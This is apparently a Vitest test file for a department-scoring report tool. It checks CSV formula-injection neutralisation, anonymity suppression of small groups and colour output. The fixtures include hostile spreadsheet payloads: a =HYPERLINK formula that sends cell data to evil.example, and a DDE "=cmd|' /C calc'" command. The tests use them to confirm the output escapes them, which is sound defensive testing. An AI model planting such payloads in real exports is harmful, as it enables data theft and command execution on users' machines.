/**
 * The `ic score` report document, rendered in every format, on scores computed by the core (no files, no build): formula neutralisation in CSV,
 * Excel CSV, hidden values in every view and format, colour only where asked.
 */
import { Chalk } from 'chalk';
import { describe, expect, it } from 'vitest';
import type { Config } from '../../../src/config/types.js';
import { createPeriodAggregator } from '../../../src/core/aggregate.js';
import type { PeriodScores } from '../../../src/core/results.js';
import { scorePeriod } from '../../../src/core/score.js';
import type { QuestionnaireRow } from '../../../src/domain/questionnaire.js';
import type { RowCounts } from '../../../src/pipeline/loadPeriod.js';
import { renderDocument } from '../../../src/render/document.js';
import { buildScoreDocument } from '../../../src/report/score/build.js';
import { VIEWS, type View } from '../../../src/report/score/views.js';
import { makeConfig } from '../../helpers/config.js';
import { ANSI, parseCsv } from '../../score/helpers.js';

const FORMATS = ['table', 'csv', 'json', 'md'] as const;
const NA = Number.NaN;
const plain = new Chalk({ level: 0 });
const coloured = new Chalk({ level: 2 });

function scoreRows(config: Config, rows: [respondent: number, rater: number, target: number, answers: number[]][]): PeriodScores {
  const aggregator = createPeriodAggregator(config);
  for (const [respondent, rater, target, answers] of rows) {
    const row: QuestionnaireRow = { respondent, rater, target, answers: Float64Array.from(answers) };
    aggregator.add(row);
  }
  return scorePeriod(aggregator.finish(), config);
}

function counts(n: number): RowCounts {
  return { read: n, used: n, rejected: 0, withErrors: 0, withWarnings: 0 };
}

function render(scores: PeriodScores, config: Config, view: View, format: (typeof FORMATS)[number], options: { excel?: boolean; color?: boolean } = {}): string {
  const doc = buildScoreDocument({ scores, config, rows: counts(scores.rowsUsed), inputs: ['responses.csv'] }, view);
  return renderDocument(doc, format, { color: options.color ? coloured : plain, excel: options.excel ?? false });
}

describe('CSV: cells that a spreadsheet would run are neutralised, numbers stay numbers', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
  const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '\tTabbed', '\rReturn'];
  const config = makeConfig({
    departments: NAMES.map((name, i) => ({ id: `d${i}`, name })),
    criteria: [
      { id: 'speed', name: "=cmd|' /C calc'!A0", weight: 2 },
      { id: 'quality', name: '-minus', weight: 1 },
    ],
    anonymityMin: 1,
    alertBelow: 3.5,
  });
  // Everybody evaluates d0 and d1; d0's raters are harsh, so some differences are negative numbers.
  const scores = scoreRows(config, [
    [1, 1, 0, [2, 3]],
    [2, 2, 0, [1, 2]],
    [3, 3, 1, [5, 5]],
    [4, 4, 1, [4, NA]],
    [5, 5, 0, [5, 4]],
    [6, 0, 1, [3, 3]],
  ]);

  it.each(VIEWS)('--by %s: every text cell starting with = + - @ tab or CR gets a leading apostrophe', (view) => {
    for (const excel of [false, true]) {
      const text = render(scores, config, view, 'csv', { excel });
      const records = parseCsv(text, excel ? ';' : ',');
      let names = 0;
      for (const record of records) {
        for (const cell of record) {
          if (/^[=+\-@\t\r]/u.test(cell)) {
            // A number (e.g. a negative difference) is the only thing allowed to start with "-".
            expect(cell, `${view} ${excel ? 'excel' : 'csv'}: ${JSON.stringify(cell)}`).toMatch(excel ? /^-\d+(,\d+)?(e-?\d+)?$/u : /^-\d+(\.\d+)?(e-?\d+)?$/u);
          }
          if (NAMES.some((n) => cell === `'${n}`) || cell === "'=cmd|' /C calc'!A0" || cell === "'-minus") names++;
        }
      }
      expect(names, `${view}: the names are there, neutralised`).toBeGreaterThan(0);
    }
  });

  it('the department named =HYPERLINK(...) keeps its text, behind an apostrophe, and its numbers are numbers', () => {
    const records = parseCsv(render(scores, config, 'department', 'csv'));
    const header = records[0]!;
    const row = records.find((r) => r[header.indexOf('id')] === 'd0')!;
    expect(row[header.indexOf('department')]).toBe(`'${HYPERLINK}`);
    expect(Number(row[header.indexOf('score')])).toBeCloseTo(scores.departments[0]!.score!, 12);
  });

  it('negative numbers stay numbers (rater view: a harsh rater)', () => {
    const records = parseCsv(render(scores, config, 'rater', 'csv'));
    const header = records[0]!;
    const differences = records.slice(1).map((r) => r[header.indexOf('difference')]!);
    expect(differences.some((d) => d.startsWith('-'))).toBe(true);
    for (const d of differences) expect(d).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/u);
    const excel = parseCsv(render(scores, config, 'rater', 'csv', { excel: true }), ';');
    for (const r of excel.slice(1)) expect(r[header.indexOf('difference')]).toMatch(/^-?\d+(,\d+)?(e-?\d+)?$/u);
  });

  it('criterion names in --by criterion are neutralised too', () => {
    const records = parseCsv(render(scores, config, 'criterion', 'csv'));
    expect(records.map((r) => r[0])).toEqual(['criterion', "'=cmd|' /C calc'!A0", "'-minus"]);
  });

  it('JSON and Markdown keep the names as they are (no spreadsheet there)', () => {
    const json = JSON.parse(render(scores, config, 'department', 'json')) as { departments: { name: string }[] };
    expect(json.departments.map((d) => d.name)).toEqual(NAMES);
    expect(render(scores, config, 'department', 'md')).toContain('=HYPERLINK(');
  });
});

describe('a department whose score is hidden (2 respondents, anonymity_min 3)', () => {
  const config = makeConfig({
    departments: [{ id: 'a', name: 'Alpha' }, { id: 'b', name: 'Beta' }, { id: 'c', name: 'Gamma' }],
    criteria: [
      { id: 'x', weight: 1 },
      { id: 'y', weight: 3 },
    ],
    anonymityMin: 3,
    alertBelow: 4.9,
  });
  // c is evaluated by 2 people of b only: m_x = 1, m_y = 1.5, S(c) = (1 + 4.5)/4 = 1.375; favorable 0%.
  const scores = scoreRows(config, [
    [1, 1, 0, [4, 4]],
    [2, 1, 0, [5, 4]],
    [3, 1, 0, [4, 5]],
    [4, 1, 0, [5, 5]],
    [5, 1, 0, [4, 4]],
    [6, 2, 0, [3, 4]],
    [7, 2, 0, [4, 4]],
    [1, 1, 2, [1, 2]],
    [2, 1, 2, [1, 1]],
  ]);

  it('JSON: null score with its reason; counts stay', () => {
    const json = JSON.parse(render(scores, config, 'department', 'json')) as { departments: Record<string, unknown>[] };
    expect(json.departments[2]).toMatchObject({
      id: 'c', score: null, se: null, ci95: null, favorable_pct: null, rank: null, respondents: 2, raters: 1,
      criteria: { x: null, y: null }, criteria_reasons: { x: 'fewer_than_k', y: 'fewer_than_k' },
      suppressed: true, reason: 'fewer_than_k', flags: ['suppressed'],
    });
  });

  it.each(VIEWS.flatMap((view) => FORMATS.map((format) => ({ view, format }))))('--by $view --format $format never shows 1.375 (or 1.38, or m_y = 1.5)', ({ view, format }) => {
    for (const excel of format === 'csv' ? [false, true] : [false]) {
      const out = render(scores, config, view, format, { excel });
      expect(out).not.toMatch(/(?<!\d)(?<!\d[.,])1[.,](375|38|5(?!\d))/u);
      if (view === 'department' && format !== 'json') expect(out).toMatch(format === 'csv' ? /suppressed \(fewer than 3 respondents\)/u : /n<3/u);
    }
  });

  it('table and Markdown: the Gamma row shows markers, the legend says why, Gamma is not under "needs attention"', () => {
    for (const format of ['table', 'md'] as const) {
      const out = render(scores, config, 'department', format);
      const line = out.split('\n').find((l) => l.includes('Gamma'))!;
      expect(line).toMatch(/n<3/u);
      expect(line).not.toMatch(/below alert/u);
      expect(out).toContain('n<3: fewer than 3 respondents, not shown (anonymity)');
      expect(out.slice(out.indexOf('Needs attention'))).not.toContain('Gamma');
    }
  });
});

describe('colour', () => {
  const config = makeConfig({
    departments: [{ id: 'a' }, { id: 'b' }, { id: 'c' }],
    criteria: [{ id: 'x' }],
    anonymityMin: 1,
    alertBelow: 3,
  });
  const scores = scoreRows(config, [
    [1, 1, 0, [2]],
    [2, 2, 0, [1]],
    [3, 0, 1, [5]],
    [4, 2, 1, [4]],
  ]);

  it.each(VIEWS)('--by %s: the table is coloured only when asked; csv, json and md never are', (view) => {
    expect(render(scores, config, view, 'table', { color: true })).toMatch(ANSI);
    expect(render(scores, config, view, 'table')).not.toMatch(ANSI);
    for (const format of ['csv', 'json', 'md'] as const) expect(render(scores, config, view, format, { color: true })).not.toMatch(ANSI);
  });
});

describe('the rater view cannot be combined with the department view to solve for hidden pairs', () => {
  // The score-small company with every question answered, anonymity_min 2. hr → sales has one respondent
  // (hidden) and it → sales is hidden with it (secondary). If given(r) and the company mean were computed over
  // every row, S(sales) = (P(it→sales) + P(hr→sales)) / 2 and n·company − Σ rows·given would be two equations
  // in the two hidden pairs: one person's answers, exactly. They are computed over the rows of shown pairs
  // only, so the rater view does not move whatever the hidden pairs hold.
  const config = makeConfig({
    departments: [
      { id: 'sales', clientsOf: ['procurement', 'it'] },
      { id: 'procurement', clientsOf: ['it', 'hr'] },
      { id: 'it', clientsOf: ['sales', 'hr'] },
      { id: 'hr', clientsOf: ['sales'] },
    ],
    criteria: [
      { id: 'speed', weight: 2 },
      { id: 'quality', weight: 1 },
    ],
    anonymityMin: 2,
  });
  const [s1, s2, s3, p1, p2, p3, i1, i2, h1] = [0, 1, 2, 3, 4, 5, 6, 7, 8];
  const period = (itAboutSales: [number[], number[]], hrAboutSales: number[]) =>
    scoreRows(config, [
      [s1, 0, 1, [4, 5]], [s2, 0, 1, [3, 4]], [s3, 0, 1, [5, 4]],
      [s1, 0, 2, [2, 3]], [s2, 0, 2, [4, 4]],
      [p1, 1, 2, [5, 5]], [p2, 1, 2, [3, 4]], [p3, 1, 2, [4, 2]],
      [p1, 1, 3, [4, 4]], [p2, 1, 3, [2, 3]],
      [i1, 2, 3, [5, 4]], [i2, 2, 3, [3, 3]],
      [i1, 2, 0, itAboutSales[0]], [i2, 2, 0, itAboutSales[1]],
      [h1, 3, 0, hrAboutSales], // P(hr→sales): one person's answers
    ]);

  it('the rater view is the same whatever the hidden pairs hold, and it never shows them', () => {
    const a = period([[4, 3], [2, 2]], [5, 4]);
    const b = period([[1, 1], [5, 5]], [1, 2]);
    const ja = JSON.parse(render(a, config, 'rater', 'json')) as { raters: unknown };
    const jb = JSON.parse(render(b, config, 'rater', 'json')) as { raters: unknown };
    expect(ja.raters).toEqual(jb.raters);
    expect(JSON.stringify(ja.raters)).not.toMatch(/4\.666|2\.833/u); // P(hr→sales) = 14/3, P(it→sales) = 17/6
    const pairs = (JSON.parse(render(a, config, 'pair', 'json')) as { pairs: { rater: string; target: string; score: number | null }[] }).pairs;
    expect(pairs.filter((p) => p.target === 'sales' && p.rater !== 'procurement').map((p) => [p.rater, p.score])).toEqual([
      ['it', null],
      ['hr', null],
    ]);
  });
});
